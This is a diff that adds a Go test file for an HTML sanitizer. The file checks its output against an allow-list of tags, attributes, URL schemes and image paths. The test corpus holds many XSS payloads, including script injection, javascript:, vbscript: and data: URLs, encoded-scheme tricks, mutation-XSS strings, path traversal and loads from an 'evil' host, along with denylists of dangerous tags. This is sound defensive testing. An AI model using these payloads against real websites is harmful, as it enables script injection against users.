@@ -1,0 +1,246 @@
+package sanitize
+
+import (
+	"net/url"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+)
+
+// allowedAttrs is the allow-list the output must respect, written independently
+// of the policy so that a policy mistake shows up here.
+var allowedAttrs = map[string][]string{
+	"p": {"class"}, "br": nil, "h2": {"class"}, "h3": {"class"}, "h4": {"class"},
+	"strong": nil, "b": nil, "em": nil, "i": nil, "u": nil, "ul": nil, "ol": nil, "li": {"class"},
+	"blockquote": {"class"}, "table": {"class"}, "caption": nil, "thead": nil, "tbody": nil, "tfoot": nil,
+	"tr": nil, "th": {"colspan", "rowspan", "scope", "class"}, "td": {"colspan", "rowspan", "class"},
+	"a": {"href", "rel"}, "img": {"src", "alt", "width", "height"},
+	"span": {"class"}, "div": {"class"}, "hr": nil, "sub": nil, "sup": nil,
+}
+
+// checkSafe parses sanitized output and fails on anything outside the
+// allow-list: elements, attributes, URL schemes, image sources, rel.
+func checkSafe(t *testing.T, in, out string) {
+	t.Helper()
+	z := html.NewTokenizer(strings.NewReader(out))
+	for {
+		tt := z.Next()
+		if tt == html.ErrorToken {
+			break
+		}
+		switch tt {
+		case html.CommentToken, html.DoctypeToken:
+			t.Fatalf("Body(%q) = %q: comment or doctype kept", in, out)
+		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
+			tok := z.Token()
+			attrs, ok := allowedAttrs[tok.Data]
+			if !ok {
+				t.Fatalf("Body(%q) = %q: element <%s> kept", in, out, tok.Data)
+			}
+			rel := false
+			for _, a := range tok.Attr {
+				found := false
+				for _, k := range attrs {
+					found = found || k == a.Key
+				}
+				if !found {
+					t.Fatalf("Body(%q) = %q: attribute %s on <%s> kept", in, out, a.Key, tok.Data)
+				}
+				switch a.Key {
+				case "href":
+					if dangerousURL(a.Val) {
+						t.Fatalf("Body(%q) = %q: href %q", in, out, a.Val)
+					}
+					u, err := url.Parse(a.Val)
+					if err != nil {
+						t.Fatalf("Body(%q) = %q: bad href %q", in, out, a.Val)
+					}
+					if s := strings.ToLower(u.Scheme); s != "" && s != "http" && s != "https" && s != "mailto" {
+						t.Fatalf("Body(%q) = %q: href scheme %q", in, out, u.Scheme)
+					}
+				case "src":
+					if dangerousURL(a.Val) {
+						t.Fatalf("Body(%q) = %q: src %q", in, out, a.Val)
+					}
+					if !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") &&
+						!(strings.HasPrefix(a.Val, "/attachments/") && !strings.Contains(a.Val, "..") && !strings.Contains(strings.ToLower(a.Val), "%2e")) {
+						t.Fatalf("Body(%q) = %q: img src %q", in, out, a.Val)
+					}
+				case "rel":
+					rel = a.Val == LinkRel
+				case "class":
+					for _, c := range strings.Fields(a.Val) {
+						if !strings.Contains(" "+ClassNames+" ", " "+c+" ") {
+							t.Fatalf("Body(%q) = %q: class %q", in, out, c)
+						}
+					}
+				}
+			}
+			if tok.Data == "a" && tt != html.EndTagToken && len(tok.Attr) > 0 && !rel {
+				t.Fatalf("Body(%q) = %q: link without rel=%q", in, out, LinkRel)
+			}
+		}
+	}
+	low := strings.ToLower(out)
+	for _, bad := range []string{"<script", "<svg", "<math", "<iframe", "<style", "<object", "<embed", "<form", "<meta", "<base", "<link"} {
+		if strings.Contains(low, bad) {
+			t.Fatalf("Body(%q) = %q contains %q", in, out, bad)
+		}
+	}
+}
+
+// dangerousURL reads a URL the way a browser does — tabs and newlines
+// removed, leading controls and spaces trimmed, scheme case-insensitive — and
+// reports a scheme that runs code or embeds content.
+func dangerousURL(v string) bool {
+	v = strings.Map(func(r rune) rune {
+		if r == '\t' || r == '\n' || r == '\r' {
+			return -1
+		}
+		return r
+	}, v)
+	v = strings.ToLower(strings.TrimLeft(v, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "))
+	for _, s := range []string{"javascript:", "vbscript:", "data:", "file:"} {
+		if strings.HasPrefix(v, s) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestBodyXSS(t *testing.T) {
+	corpus := []string{
+		`<script>alert(1)</script>`,
+		`<SCRIPT SRC=//evil/x.js></SCRIPT>`,
+		`<img src=x onerror=alert(1)>`,
+		`<img src="/attachments/a.png" onload="alert(1)">`,
+		`<a href="javascript:alert(1)">x</a>`,
+		`<a href="JaVaScRiPt:alert(1)">x</a>`,
+		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
+		`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
+		`<a href=" javascript:alert(1)">x</a>`,
+		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
+		`<a href="vbscript:msgbox(1)">x</a>`,
+		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
+		`<svg><script>alert(1)</script></svg>`,
+		`<svg onload=alert(1)><circle r=1 /></svg>`,
+		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
+		`<style>body{background:url(javascript:alert(1))}</style>`,
+		`<p style="background:url(javascript:alert(1))">x</p>`,
+		`<div style="width:expression(alert(1))">x</div>`,
+		`<iframe src="https://evil/"></iframe>`,
+		`<object data="x.swf"></object><embed src="x.swf">`,
+		`<form action="https://evil/"><input name=q><button>提交</button></form>`,
+		`<meta http-equiv="refresh" content="0;url=https://evil/">`,
+		`<base href="https://evil/">`,
+		`<link rel=stylesheet href="https://evil/x.css">`,
+		`<img src="data:image/png;base64,iVBORw0KGgo=">`,
+		`<img src="//evil/x.png">`,
+		`<img src="/attachments/../admin/x.png">`,
+		`<img src="/attachments/%2e%2e/admin">`,
+		`<img src="/etc/passwd">`,
+		`<img src="javascript:alert(1)">`,
+		`<a href="https://example.org/" target="_blank" rel="opener">x</a>`,
+		`<a href="https://example.org/" onclick="alert(1)">x</a>`,
+		`<p class="MsoNormal evil">x</p>`,
+		`<table><tr><td colspan="2" rowspan="x" onmouseover="alert(1)">x</td></tr></table>`,
+		`<div data-x="1" id="top">x</div>`,
+		`<<script>script>alert(1)<</script>/script>`,
+		`<img """><script>alert(1)</script>">`,
+		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+		`<!--<img src=x onerror=alert(1)>-->`,
+		`<template><script>alert(1)</script></template>`,
+		`<textarea><script>alert(1)</script></textarea>`,
+		`<a href="http://x" style="position:fixed">x</a>`,
+		"<a href=\"java\x00script:alert(1)\">x</a>",
+	}
+	for _, in := range corpus {
+		out := Body(in)
+		checkSafe(t, in, out)
+	}
+}
+
+func TestBodyDecisions(t *testing.T) {
+	tests := []struct{ in, want string }{
+		// Protocol-relative links are ordinary links to another site.
+		{`<a href="//example.org/x">x</a>`, `<a href="//example.org/x" rel="noopener noreferrer nofollow">x</a>`},
+		{`<a href="/records/12#p3" target="_blank">记录</a>`, `<a href="/records/12#p3" rel="noopener noreferrer nofollow">记录</a>`},
+		{`<a href="mailto:gk@example.gov.cn">信箱</a>`, `<a href="mailto:gk@example.gov.cn" rel="noopener noreferrer nofollow">信箱</a>`},
+		{`<a href="javascript:alert(1)">x</a>`, `x`},
+		{`<img src="/attachments/ab/cdef.png" alt="图" width="300" height="200" style="border:0">`, `<img src="/attachments/ab/cdef.png" alt="图" width="300" height="200">`},
+		{`<img src="https://example.org/a.png" alt="x">`, `<img src="https://example.org/a.png" alt="x">`},
+		{`<p class="align-center indent" style="color:red">标题</p>`, `<p class="align-center indent">标题</p>`},
+		{`<p class="MsoNormal">正文<o:p></o:p></p>`, `<p>正文</p>`},
+		{`<h1>一</h1><h5>五</h5>`, `一五`},
+		{`<script>alert(1)</script>正文`, `正文`},
+	}
+	for _, tt := range tests {
+		if got := Body(tt.in); got != tt.want {
+			t.Errorf("Body(%q)\n got %q\nwant %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestBodyKeepsContent(t *testing.T) {
+	in := `<h2>一、低保审核信息</h2>
+<p>根据《社会救助暂行办法》，现将<strong>2024年第一季度</strong>审核结果公示如下：</p>
+<table>
+<thead><tr><th scope="col">序号</th><th>户主姓名</th><th>保障人数</th></tr></thead>
+<tbody>
+<tr><td>1</td><td>张三</td><td rowspan="2">3</td></tr>
+<tr><td colspan="2">李四</td></tr>
+</tbody>
+</table>
+<ol><li>公示期：7个工作日</li><li>监督电话：<a href="tel:12345">12345</a></li></ol>
+<blockquote>H<sub>2</sub>O，10<sup>3</sup></blockquote>
+<hr>
+<ul><li><em>附件</em>：<a href="/attachments/ab/cd.xlsx">名单.xlsx</a></li></ul>`
+	out := Body(in)
+	checkSafe(t, in, out)
+	for _, s := range []string{
+		"<h2>一、低保审核信息</h2>", "<strong>2024年第一季度</strong>", `<th scope="col">序号</th>`,
+		`<td rowspan="2">3</td>`, `<td colspan="2">李四</td>`, "<li>公示期：7个工作日</li>",
+		"H<sub>2</sub>O，10<sup>3</sup>", "<hr>", "<em>附件</em>",
+		`<a href="/attachments/ab/cd.xlsx" rel="noopener noreferrer nofollow">名单.xlsx</a>`,
+	} {
+		if !strings.Contains(out, s) {
+			t.Errorf("Body lost %q:\n%s", s, out)
+		}
+	}
+	// tel: is not an allowed scheme: the link goes, its text stays.
+	if !strings.Contains(out, "监督电话：12345") {
+		t.Errorf("tel link text lost:\n%s", out)
+	}
+}
+
+func TestText(t *testing.T) {
+	in := `<h2>标题</h2><p>第一段，<b>加粗</b>  文字
+继续。</p><p>第二段<br>换行</p><script>var x = "610112199001011234";</script>
+<table><tr><th>姓名</th><th>身份证号</th></tr><tr><td>张三</td><td>610112********1234</td></tr></table>
+<ul><li>一</li><li>二&nbsp;&amp;三</li></ul>`
+	want := "标题\n第一段，加粗 文字 继续。\n第二段\n换行\n姓名\t身份证号\n张三\t610112********1234\n一\n二 &三"
+	if got := Text(in); got != want {
+		t.Fatalf("Text:\n got %q\nwant %q", got, want)
+	}
+	if Text("") != "" || Text("<p></p>") != "" {
+		t.Fatal("empty body gave text")
+	}
+}
+
+func FuzzBody(f *testing.F) {
+	for _, s := range []string{
+		`<a href="javascript:alert(1)">x</a>`, `<img src=x onerror=alert(1)>`, `<p style="x">y</p>`,
+		`<table><tr><td colspan=2>x</td></tr></table>`, `<a href="/x">y</a>`, `<svg><script>1</script></svg>`,
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		out := Body(in)
+		checkSafe(t, in, out)
+		// Sanitizing is idempotent: published bodies can be re-saved.
+		if again := Body(out); again != out {
+			t.Fatalf("Body not idempotent: %q -> %q -> %q", in, out, again)
+		}
+	})
+}
